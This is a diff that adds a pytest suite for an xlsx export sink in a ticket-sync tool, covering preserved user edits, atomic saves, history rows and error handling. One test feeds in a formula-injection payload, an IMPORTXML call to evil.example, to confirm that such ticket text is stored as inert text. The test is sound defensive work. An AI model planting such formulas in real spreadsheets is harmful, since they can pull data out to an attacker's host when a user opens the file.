@@ -1,0 +1,126 @@
+"""The xlsx sink: people's data kept, ticket text inert, all-or-nothing saves."""
+from __future__ import annotations
+
+from datetime import timedelta
+
+import openpyxl
+import pytest
+
+from connectors.memory import MemorySource
+from connectors.xlsx import XlsxSink
+from sync.config import XlsxSinkConfig
+from sync.engine import run_once
+from sync.errors import GuardError
+from sync.state import State
+
+from .conftest import NOW, make_config, ticket
+
+
+@pytest.fixture
+def env(tmp_path):
+    path = tmp_path / "book.xlsx"
+    config = make_config(sink={"type": "xlsx", "path": str(path)})
+    state = State(tmp_path / "state.db")
+    yield path, config, state
+    state.close()
+
+
+def sync(env, tickets, now=NOW, **kw):
+    path, config, state = env
+    return run_once(config, [MemorySource("jira", tickets)], XlsxSink(config.sink), state, now, **kw)
+
+
+def test_people_columns_follow_their_ticket(env):
+    path = env[0]
+    sync(env, [ticket("A-1"), ticket("A-2"), ticket("A-3")])
+    wb = openpyxl.load_workbook(path)
+    ws = wb["Tickets"]
+    ws.cell(row=1, column=16, value="Notes")
+    ws.cell(row=1, column=17, value="Double")
+    for r in range(2, 5):
+        ws.cell(row=r, column=16, value=f"note for {ws.cell(row=r, column=1).value}")
+    ws.cell(row=3, column=17, value="=I3*2")
+    wb.create_sheet("Team notes")["B2"] = "keep me"
+    wb["Metrics"].append(["2026-11-20", "conv_rate", 7.0, "typed by a person"])
+    wb.save(path)
+
+    # Given a ticket removed (A-1) and one added (A-0, sorts first): rows move.
+    sync(env, [ticket("A-0"), ticket("A-2"), ticket("A-3")], now=NOW + timedelta(hours=1))
+    wb = openpyxl.load_workbook(path)
+    rows = {r[0]: r[15:17] for r in wb["Tickets"].iter_rows(min_row=2, values_only=True)}
+    assert [c.value for c in wb["Tickets"][1]][15:] == ["Notes", "Double"]
+    assert rows == {"A-0": (None, None), "A-2": ("note for A-2", "=I3*2"), "A-3": ("note for A-3", None)}
+    assert wb["Team notes"]["B2"].value == "keep me"
+    assert list(wb["Metrics"].iter_rows(min_row=2, values_only=True)) == \
+        [("2026-11-20", "conv_rate", 7, "typed by a person")]
+    current = {r[0]: r[1] for r in wb["Scorecard"].iter_rows(min_row=2, max_col=7, values_only=True)}
+    assert wb["Scorecard"]["G2"].value == 7 and "conv" in current
+
+
+def test_formula_text_stays_text(env):
+    path = env[0]
+    sync(env, [ticket("F-1", title='=IMPORTXML("https://evil.example/x","//a")', owner="=1+1",
+                      labels=("+cmd",))])
+    ws = openpyxl.load_workbook(path)["Tickets"]
+    assert ws["C2"].value == '=IMPORTXML("https://evil.example/x","//a")'
+    assert ws["C2"].data_type == "s" and ws["H2"].data_type == "s"
+    with open(path, "rb") as fh:
+        import zipfile
+        with zipfile.ZipFile(fh) as z:
+            sheet = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert not any("<f>IMPORTXML" in s for s in sheet)
+
+
+def test_history_once_per_period(env):
+    path = env[0]
+    sync(env, [ticket("A-1")])
+    sync(env, [ticket("A-1")], now=NOW + timedelta(hours=3))       # within history_every (1d)
+    sync(env, [ticket("A-1")], now=NOW + timedelta(days=1))
+    history = list(openpyxl.load_workbook(path)["History"].iter_rows(min_row=2, values_only=True))
+    assert [r[0] for r in history] == ["2026-11-26T09:00:00Z"] * 3 + ["2026-11-27T09:00:00Z"] * 3
+    trend = list(openpyxl.load_workbook(path)["Trend"].iter_rows(min_row=2, values_only=True))
+    assert len(trend) == 2
+
+
+def test_failed_sync_keeps_data_and_sets_last_error(env):
+    path = env[0]
+    sync(env, [ticket("A-1"), ticket("A-2")])
+    before = list(openpyxl.load_workbook(path)["Tickets"].iter_rows(values_only=True))
+    with pytest.raises(GuardError):
+        sync(env, [], now=NOW + timedelta(days=2))
+    wb = openpyxl.load_workbook(path)
+    assert list(wb["Tickets"].iter_rows(values_only=True)) == before
+    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(min_row=2, values_only=True)}
+    assert "returned no tickets" in summary["Last error"]
+    assert summary["Last sync"] == "2026-11-26T09:00:00Z"
+
+
+def test_save_is_atomic(env, monkeypatch):
+    path = env[0]
+    sync(env, [ticket("A-1")])
+    original = path.read_bytes()
+
+    def boom(self, filename):
+        with open(filename, "wb") as fh:
+            fh.write(b"half a workbook")
+        raise OSError(28, "No space left on device")
+    monkeypatch.setattr(openpyxl.Workbook, "save", boom)
+    with pytest.raises(Exception, match="cannot save"):
+        sync(env, [ticket("A-1"), ticket("A-2")], now=NOW + timedelta(days=1))
+    assert path.read_bytes() == original
+    assert [p.name for p in path.parent.iterdir() if p.suffix == ".tmp"] == []
+
+
+def test_owners_tab_can_be_switched_off(tmp_path):
+    path = tmp_path / "b.xlsx"
+    config = make_config(sink={"type": "xlsx", "path": str(path), "owners_tab": False})
+    state = State(tmp_path / "s.db")
+    run_once(config, [MemorySource("jira", [ticket()])], XlsxSink(config.sink), state, NOW)
+    assert "Owners" not in openpyxl.load_workbook(path).sheetnames
+
+
+def test_damaged_workbook_is_a_clear_error(tmp_path):
+    path = tmp_path / "bad.xlsx"
+    path.write_bytes(b"not a zip")
+    with pytest.raises(Exception, match="cannot open as a workbook"):
+        XlsxSink(XlsxSinkConfig(type="xlsx", path=str(path))).read()
